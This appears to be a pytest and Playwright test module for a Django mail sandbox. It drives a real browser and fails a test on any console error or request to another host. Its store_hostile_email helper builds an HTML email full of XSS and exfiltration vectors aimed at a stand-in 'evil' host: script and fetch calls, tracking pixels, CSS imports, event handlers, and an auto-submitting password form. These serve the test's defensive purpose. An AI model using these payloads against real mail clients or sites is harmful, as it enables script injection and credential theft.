"""A real browser for page tests: it fails a test on any console error and any request to another host."""

import os
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from playwright.sync_api import Browser, Page, sync_playwright

from mails.tests.builders import dispatch
from mails.tests.people import browser_of
from providers.sandbox import mailbox

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
SECONDS = 1000
browser_only = pytest.mark.one_leg  # scripts, styles and markup do not depend on the database


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """Start one browser for all tests of a module."""
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = (
        "1"  # playwright runs an event loop in this thread, which Django would refuse
    )
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()
    del os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]


class Visitor:
    """A browser window of one user that records every console error and every request to another host."""

    def __init__(self, browser: Browser, base: str, **options) -> None:
        self.base = base
        self.context = browser.new_context(base_url=base, **options)
        self.page: Page = self.context.new_page()
        self.complaints: list[str] = []
        self.page.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self._watch(request.url))

    def sign_in(self, user: User, url: str = "/") -> Page:
        """Open `url` with a signed-in session; one test of the live page uses the login form instead."""
        session = browser_of(user).cookies[settings.SESSION_COOKIE_NAME].value
        self.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": self.base}])
        self.page.goto(url)
        return self.page

    def _watch(self, url: str) -> None:
        if urlsplit(url).scheme != "data" and not url.startswith(self.base):
            self.complaints.append(f"request to {url}")


@pytest.fixture
def visitor(chromium, live_server, olympus) -> Iterator[Visitor]:
    """Open a window, and fail the test if the console or the network showed a problem."""
    visitor = Visitor(chromium, live_server.url)
    yield visitor
    visitor.context.close()
    assert visitor.complaints == []


def dispatch_in_thread(queue: str = "text") -> None:
    """Dispatch in a thread, because playwright's event loop runs in this one."""
    thread = threading.Thread(target=dispatch, args=(queue,))
    thread.start()
    thread.join()


def fill_and_send(page: Page, **fields: str) -> None:
    """Fill in the form and press Send."""
    for name, value in {
        "recipient": "hera@olimpus.com",
        "subject": "You made my day",
        "content": "Hi",
        **fields,
    }.items():
        page.fill(f"#id_{name}", value)
    page.click("text=Send email")


def store_hostile_email(evil: str) -> str:
    """Store an email that tries every attack in the sandbox, and return the URL of its page."""
    message = EmailMessage()
    message["Subject"] = "<script>document.title = 'taken'</script>"
    message.set_content("Hi")
    message.add_alternative(
        f"""<html><head><meta http-equiv="refresh" content="0;url={evil}/refresh"><base href="{evil}/">
        <link rel="stylesheet" href="{evil}/link.css"><style>@import "{evil}/import.css";</style></head>
        <body onload="top.document.title = 'taken'">
        <script>top.document.title = 'taken'; fetch("{evil}/fetch")</script><script src="{evil}/script.js"></script>
        <img id="pixel" src="{evil}/pixel.png" onerror="alert(1)"><img srcset="{evil}/set.png 2x">
        <p style="background: url({evil}/style.png)">Hi</p><svg onload="alert(1)"></svg>
        <iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object><video poster="{evil}/poster"></video>
        <form action="{evil}/form"><input name="password" autofocus onfocus="this.form.submit()"><button>Win</button></form>
        <a href="{evil}/link" target="_top">Win</a><a href="javascript:alert(1)">Win too</a></body></html>""",
        subtype="html",
    )
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="page.html")
    return f"/admin/sandbox/olympus/{mailbox.store('olympus', message.as_bytes())}/"
